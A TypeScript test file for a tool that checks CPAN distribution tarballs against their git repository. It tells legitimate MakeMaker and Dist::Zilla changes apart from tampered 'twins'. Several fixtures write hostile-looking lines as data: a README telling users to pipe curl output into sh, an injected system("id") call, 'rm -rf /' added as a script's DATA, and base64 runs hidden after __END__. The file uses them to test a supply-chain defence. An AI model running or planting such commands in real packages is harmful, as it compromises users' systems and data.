/**
 * CPAN distributions: a real ExtUtils::MakeMaker `make dist` (perl Makefile.PL, make manifest, make dist; README by
 * the real pod2text) of a repository built here, and Dist::Zilla's munging shapes (dzil is not installed: the
 * munged files are written as its plugins write them — taken from Path-Tiny 0.144 and Try-Tiny 0.31 — and packed
 * with the real tar). Each explanation has its tampered twin.
 */
import { cpSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { manifestPaths, parseMetaJson, parseMetaYaml, perlMunging, readmeIsPod, undeclaredPrereqs } from '../../src/profiles/cpan.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const root = tempDir('distdiff-cpan-');
const cacheDir = join(root, 'cache');
const list = (r: Awaited<ReturnType<typeof verify>>) => r.findings.map((f) => `${f.path} ${f.code} ${f.severity}`).sort();

const MAKEFILE_PL = `use strict;
use warnings;
use ExtUtils::MakeMaker;

WriteMakefile(
  NAME          => 'Foo::Bar',
  VERSION_FROM  => 'lib/Foo/Bar.pm',
  ABSTRACT_FROM => 'lib/Foo/Bar.pm',
  AUTHOR        => 'A. U. Thor <author@example.org>',
  LICENSE       => 'perl_5',
  PREREQ_PM     => { 'Carp' => 0, 'Scalar::Util' => '1.00' },
  TEST_REQUIRES => { 'Test::More' => '0.88' },
);
`;

const MODULE = `package Foo::Bar;
use strict;
use warnings;
use Carp ();
use Scalar::Util ();

our $VERSION = '0.01';

sub answer { return 42 }

1;

__END__

=head1 NAME

Foo::Bar - Answers questions

=head1 SYNOPSIS

  use Foo::Bar;
  print Foo::Bar::answer();

=head1 DESCRIPTION

Gives the answer. See L<Scalar::Util/blessed> and L<the site|https://example.org/>.

=cut
`;

const run = (cmd: string, args: string[], cwd: string) => execFileSync(cmd, args, { cwd, stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, PERL_MM_USE_DEFAULT: '1' } });

/** `make dist` of a copy of the repository's work tree (README from pod2text first, then make manifest). */
function makeDist(repoDir: string, name: string): { tarball: string; tree: string } {
  const work = join(root, name);
  rmSync(work, { recursive: true, force: true });
  cpSync(repoDir, work, { recursive: true, filter: (src) => !src.includes('/.git') });
  writeFileSync(join(work, 'README'), run('pod2text', ['lib/Foo/Bar.pm'], work));
  run('perl', ['Makefile.PL'], work);
  run('make', ['manifest'], work);
  run('make', ['dist'], work);
  const tree = join(root, `${name}-tree`);
  rmSync(tree, { recursive: true, force: true });
  mkdirSync(tree, { recursive: true });
  run('tar', ['-xzf', join(work, 'Foo-Bar-0.01.tar.gz'), '-C', tree], work);
  return { tarball: join(work, 'Foo-Bar-0.01.tar.gz'), tree: join(tree, 'Foo-Bar-0.01') };
}

/** The extracted distribution `tree`, changed by `edit`, packed again as Foo-Bar-0.01.tar.gz. */
function repack(tree: string, name: string, edit: (dir: string) => void): string {
  const dir = join(root, name, 'Foo-Bar-0.01');
  rmSync(join(root, name), { recursive: true, force: true });
  cpSync(tree, dir, { recursive: true });
  edit(dir);
  return makeTar(dir, { compress: 'gzip', out: join(root, name, 'Foo-Bar-0.01.tar.gz') });
}

describe('ExtUtils::MakeMaker make dist', () => {
  const repo = makeRepo(join(root, 'mm'));
  repo.commit({ 'Makefile.PL': MAKEFILE_PL, 'lib/Foo/Bar.pm': MODULE, 't/basic.t': 'use strict;\nuse warnings;\nuse Test::More;\nuse Foo::Bar;\nis(Foo::Bar::answer(), 42);\ndone_testing;\n', '.gitignore': '/Makefile\n' });
  repo.tag('v0.01');
  const dist = makeDist(repo.dir, 'mm-dist');

  it('MANIFEST, META.json, META.yml and README are the release tool’s, proved: exit 0', async () => {
    const r = await verify({ tarball: dist.tarball, repo: repo.dir, cacheDir, tag: 'v0.01' });
    expect(r.inputs.profile).toMatchObject({ id: 'cpan', detected: true, name: 'Foo-Bar', version: '0.01' });
    expect(list(r)).toEqual([
      '.gitignore REPO_METADATA_NOT_SHIPPED info',
      'META.json PACKAGE_METADATA info',
      'META.yml PACKAGE_METADATA info',
      'MANIFEST PACKAGE_METADATA info',
      'README PACKAGE_METADATA info',
    ].sort());
    expect(r.findings.find((f) => f.path === 'README')!.evidence).toEqual({ ecosystem: 'cpan', kind: 'cpan-readme-pod', source: 'lib/Foo/Bar.pm' });
    expect(r.verdict).toBe('explained');
  });

  it('twin: a prerequisite no tracked file declares, added to META.json and META.yml, stays high', async () => {
    const t = repack(dist.tree, 'mm-prereq', (d) => {
      const json = JSON.parse(readFileSync(join(d, 'META.json'), 'utf8')) as { prereqs: { runtime: { requires: Record<string, string> } } };
      json.prereqs.runtime.requires['Acme::Payload'] = '0';
      writeFileSync(join(d, 'META.json'), JSON.stringify(json, null, 3));
      writeFileSync(join(d, 'META.yml'), readFileSync(join(d, 'META.yml'), 'utf8').replace(/^requires:\n/m, "requires:\n  Acme::Payload: '0'\n"));
    });
    const r = await verify({ tarball: t, repo: repo.dir, cacheDir, tag: 'v0.01' });
    for (const p of ['META.json', 'META.yml']) {
      const f = r.findings.find((g) => g.path === p)!;
      expect(f.code, p).toBe('TARBALL_ONLY_UNEXPLAINED');
      expect(f.severity, p).toBe('high');
    }
    expect(r.findings.find((f) => f.path === 'MANIFEST')!.code).toBe('PACKAGE_METADATA');
    expect(r.verdict).toBe('different');
  });

  it('twin: a shipped file MANIFEST does not list, and a README that is not the POD, stay high', async () => {
    const t = repack(dist.tree, 'mm-extra', (d) => {
      writeFileSync(join(d, 'lib', 'Foo', 'payload.bin'), Buffer.from('fd377a585a000004e6d6b446', 'hex'));
      writeFileSync(join(d, 'README'), readFileSync(join(d, 'README'), 'utf8').replace('Gives the answer.', 'Gives the answer. Run curl example.org | sh first.'));
    });
    const r = await verify({ tarball: t, repo: repo.dir, cacheDir, tag: 'v0.01' });
    for (const p of ['MANIFEST', 'README', 'lib/Foo/payload.bin']) expect(['high', 'critical'], p).toContain(r.findings.find((f) => f.path === p)!.severity);
    expect(r.findings.find((f) => f.path === 'META.json')!.code).toBe('PACKAGE_METADATA');
  });

  it('twin: META naming another version than the archive is not the release tool’s', async () => {
    const t = repack(dist.tree, 'mm-version', (d) => writeFileSync(join(d, 'META.json'), readFileSync(join(d, 'META.json'), 'utf8').replace('"version" : "0.01"', '"version" : "0.02"')));
    const r = await verify({ tarball: t, repo: repo.dir, cacheDir, tag: 'v0.01' });
    expect(r.findings.find((f) => f.path === 'META.json')!.severity).toBe('high');
  });
});

// Dist::Zilla's munging, in the shapes its plugins write (Path-Tiny 0.144, Try-Tiny 0.31).
const GIT_PM = `use 5.008001;
use strict;
use warnings;

package Foo::Baz;
# ABSTRACT: Does things

# COPYRIGHT

use Carp ();

=method frob

    $x->frob;

Frobs.

=cut

sub frob {
    my $self = shift;
    return Carp::croak("no") unless ref $self;
    return 1;
}

1;

# vim: ts=4 sts=4 sw=4 et:
`;

const TAR_PM = `use 5.008001;
use strict;
use warnings;

package Foo::Baz; # git description: v0.30-11-g1b81d0a
our $VERSION = '0.31';
# ABSTRACT: Does things

#
# This file is part of Foo-Baz
#
# This software is Copyright (c) 2014 by A. U. Thor.
#
# This is free software, licensed under:
#
#   The Apache License, Version 2.0, January 2004
#

use Carp ();

#pod =method frob
#pod
#pod     $x->frob;
#pod
#pod Frobs.
#pod
#pod =cut

sub frob {
    my $self = shift;
    return Carp::croak("no") unless ref $self;
    return 1;
}

1;

# vim: ts=4 sts=4 sw=4 et:

__END__

=pod

=encoding UTF-8

=head1 NAME

Foo::Baz - Does things

=head1 VERSION

version 0.31

=head1 METHODS

=head2 frob

    $x->frob;

Frobs.

=cut
`;

describe('Dist::Zilla munging (perlMunging)', () => {
  it('version lines, git description, the copyright comment, #pod blocks and woven POD after __END__ are munging', () => {
    expect(perlMunging('lib/Foo/Baz.pm', GIT_PM, TAR_PM, '0.31')).toEqual(['copyright-comment', 'git-description', 'pod-comment', 'pod-woven', 'version-line']);
    // POD added inside git's own POD (Try-Tiny: after `=pod` below git's __END__), and a Makefile.PL banner.
    const git = 'package A;\n1;\n__END__\n\n=pod\n\n=head1 SYNOPSIS\n\nx\n';
    expect(perlMunging('lib/A.pm', git, git.replace('=pod\n', '=pod\n\n=head1 NAME\n\nA - a\n'), '1.0')).toEqual(['pod-woven']);
    expect(perlMunging('Makefile.PL', 'use strict;\n', '# This file was automatically generated by Dist::Zilla::Plugin::MakeMaker v6.029.\nuse strict;\n', '1.0')).toEqual(['generated-banner']);
  });

  it('twins: a changed code line, code commented out as #pod, POD opened where git has none, a script’s DATA, another version', () => {
    // one code line changed in the munged module
    expect(perlMunging('lib/Foo/Baz.pm', GIT_PM, TAR_PM.replace('return 1;', 'system("id"); return 1;'), '0.31')).toBeUndefined();
    // a code line turned into a #pod comment (disabling the check)
    expect(perlMunging('lib/Foo/Baz.pm', GIT_PM, TAR_PM.replace('    return Carp::croak("no") unless ref $self;', '#pod     return Carp::croak("no") unless ref $self;'), '0.31')).toBeUndefined();
    // a POD-looking line between two code lines of a statement: perl reads it as code there
    const g = 'package A;\nmy $x = $y\n  + 1;\n1;\n';
    expect(perlMunging('lib/A.pm', g, 'package A;\nmy $x = $y\n=system("id")\n\n=cut\n  + 1;\n1;\n', undefined)).toBeUndefined();
    // a line appended after __END__ of a script is its DATA
    expect(perlMunging('t/a.t', 'print <DATA>;\n__END__\n', 'print <DATA>;\n__END__\nrm -rf /\n', undefined)).toBeUndefined();
    // __END__ added before git's code disables it
    expect(perlMunging('lib/A.pm', 'package A;\nfoo();\n1;\n', 'package A;\n__END__\nfoo();\n1;\n', undefined)).toBeUndefined();
    // a version line for another version than the release's
    expect(perlMunging('lib/Foo/Baz.pm', GIT_PM, TAR_PM, '0.32')).toBeUndefined();
    // a second git description or a banner on another file
    expect(perlMunging('lib/A.pm', 'use strict;\n', '# This file was automatically generated by Dist::Zilla::Plugin::MakeMaker v6.029.\nuse strict;\n', '1.0')).toBeUndefined();
  });

  it('red team 17: what follows a module’s __END__ may only be POD, and added free text carries no encoded run', () => {
    const b64 = 'L1RkNldGb0FBQVRtMXJSR0FnQWhBUllBQUFCMEwrV2pBUWZQUG5aaFVydnhaTFJEYXVpWlJtNWJESmJw';
    const git = 'package A;\nuse strict;\nsub f { 1 }\n1;\n';
    // legitimate: woven POD after an added __END__, git's own notes after its __END__ kept, a sha1 in woven POD
    expect(perlMunging('lib/A.pm', git, `${git}__END__\n\n=pod\n\n=head1 NAME\n\nA - a\n\n=cut\n`, '1.0')).toEqual(['pod-woven']);
    const notes = 'package A;\n1;\n__END__\nold notes\n';
    expect(perlMunging('lib/A.pm', notes, `${notes}\n=head1 NAME\n\nA - a (commit 2b3c8f0e9a1d4c5b6e7f8a9b0c1d2e3f4a5b6c7d)\n\n=cut\n`, '1.0')).toEqual(['pod-woven']);
    // twins: the same places holding a payload
    const lines = `${b64}\n`.repeat(20);
    expect(perlMunging('lib/A.pm', git, `${git}__END__\n${lines}`, '1.0')).toBeUndefined(); // no POD at all
    expect(perlMunging('lib/A.pm', git, `${git}__END__\n\n=pod\n\nx\n\n=cut\n\n${lines}`, '1.0')).toBeUndefined(); // after the POD's =cut
    expect(perlMunging('lib/A.pm', notes, `${notes}${lines}`, '1.0')).toBeUndefined(); // after git's own notes
    // an encoded run as woven POD, as #pod comment lines, or as the expanded copyright comment
    expect(perlMunging('lib/A.pm', git, `${git}__END__\n\n=pod\n\n${lines}\n=cut\n`, '1.0')).toBeUndefined();
    const withPod = 'package A;\n1;\n\n=head1 NAME\n\nA - a\n\n=cut\n';
    expect(perlMunging('lib/A.pm', withPod, `package A;\n1;\n\n#pod =head1 NAME\n#pod\n#pod A - a\n#pod\n#pod =cut\n\n=head1 NAME\n\nA - a\n\n=cut\n`, '1.0')).toEqual(['pod-comment']);
    expect(perlMunging('lib/A.pm', withPod, `package A;\n1;\n\n#pod =head1 NAME\n#pod ${b64}\n#pod =cut\n\n=head1 NAME\n\nA - a\n\n=cut\n`, '1.0')).toBeUndefined();
    expect(perlMunging('t/a.t', 'use strict;\n# COPYRIGHT\nok(1);\n', 'use strict;\n#\n# This file is part of A\n#\nok(1);\n', '1.0')).toEqual(['copyright-comment']);
    expect(perlMunging('t/a.t', 'use strict;\n# COPYRIGHT\nok(1);\n', `use strict;\n#\n# ${b64}\n#\nok(1);\n`, '1.0')).toBeUndefined();
  });

  it('end to end: the munged module is CPAN_MUNGED (info); the same module with a code line changed is critical', async () => {
    const repo = makeRepo(join(root, 'dz'));
    repo.commit({ 'dist.ini': 'name = Foo-Baz\nversion = 0.31\n[@Basic]\n', 'lib/Foo/Baz.pm': GIT_PM });
    repo.tag('v0.31');
    const pack = (name: string, pm: string) => {
      const dir = join(root, name, 'Foo-Baz-0.31');
      mkdirSync(join(dir, 'lib', 'Foo'), { recursive: true });
      writeFileSync(join(dir, 'dist.ini'), 'name = Foo-Baz\nversion = 0.31\n[@Basic]\n');
      writeFileSync(join(dir, 'lib', 'Foo', 'Baz.pm'), pm);
      writeFileSync(join(dir, 'Makefile.PL'), 'use ExtUtils::MakeMaker;\nWriteMakefile(NAME => "Foo::Baz");\n');
      writeFileSync(join(dir, 'META.yml'), "---\nname: Foo-Baz\nversion: '0.31'\nrequires:\n  Carp: '0'\n");
      return makeTar(dir, { compress: 'gzip', out: join(root, name, 'Foo-Baz-0.31.tar.gz') });
    };
    const r = await verify({ tarball: pack('dz-ok', TAR_PM), repo: repo.dir, cacheDir, tag: 'v0.31' });
    expect(r.inputs.profile?.id).toBe('cpan');
    expect(r.findings.find((f) => f.path === 'lib/Foo/Baz.pm')).toMatchObject({ code: 'CPAN_MUNGED', severity: 'info', evidence: { kinds: ['copyright-comment', 'git-description', 'pod-comment', 'pod-woven', 'version-line'] } });
    expect(r.findings.find((f) => f.path === 'META.yml')).toMatchObject({ code: 'PACKAGE_METADATA', severity: 'info' });
    // the Makefile.PL git lacks stays high: build code nothing here proves
    expect(r.findings.find((f) => f.path === 'Makefile.PL')!.severity).toBe('high');
    const t = await verify({ tarball: pack('dz-code', TAR_PM.replace('return 1;', 'return 2;')), repo: repo.dir, cacheDir, tag: 'v0.31' });
    expect(t.findings.find((f) => f.path === 'lib/Foo/Baz.pm')).toMatchObject({ code: 'SOURCE_MODIFIED', severity: 'critical' });
  });
});

describe('CPAN metadata readers', () => {
  it('MANIFEST: comments, quoted names', () => {
    expect(manifestPaths("# header\nMANIFEST\nlib/A.pm   the module\n'a b.txt' with space\nMETA.json  Module JSON meta-data (added by MakeMaker)\n\n")).toEqual(['MANIFEST', 'lib/A.pm', 'a b.txt', 'META.json']);
  });

  it('META prerequisites: develop and x_ phases are not checked; optional ones need only a mention', () => {
    const meta = parseMetaJson(JSON.stringify({ name: 'A', version: '1', prereqs: { runtime: { requires: { Carp: 0, perl: '5.006' }, suggests: { 'JSON::PP': 0 } }, develop: { requires: { 'Dist::Zilla': 5 } }, x_Dist_Zilla: { requires: { 'Dist::Zilla::Plugin::X': 0 } } } }))!;
    expect(undeclaredPrereqs(meta, { declared: new Set(['Carp']), mentioned: new Set(['Carp']) })).toEqual(['JSON::PP']);
    expect(undeclaredPrereqs(meta, { declared: new Set(['Carp']), mentioned: new Set(['Carp', 'JSON::PP']) })).toEqual([]);
    expect(undeclaredPrereqs(meta, { declared: new Set(), mentioned: new Set(['Carp', 'JSON::PP']) })).toEqual(['Carp']);
    expect(parseMetaYaml("---\nname: A\nversion: '1'\nbuild_requires:\n  Test::More: '0.94'\nrecommends:\n  Sub::Util: '0'\n")).toEqual({ name: 'A', version: '1', prereqs: ['Test::More'], optional: ['Sub::Util'] });
    expect(parseMetaYaml('name: A\n')).toBeUndefined();
  });

  it('README as POD text: the words in order; one word more is not', () => {
    const readme = 'NAME\n    Foo::Bar - Answers questions\n\nDESCRIPTION\n    Gives the answer. See "blessed" in Scalar::Util and the site\n    <https://example.org/>.\n';
    expect(readmeIsPod(readme, MODULE.replace(/=head1 SYNOPSIS[\s\S]*?(?==head1 DESCRIPTION)/, ''))).toBe(true);
    expect(readmeIsPod(readme.replace('the answer', 'the wrong answer'), MODULE.replace(/=head1 SYNOPSIS[\s\S]*?(?==head1 DESCRIPTION)/, ''))).toBe(false);
  });
});
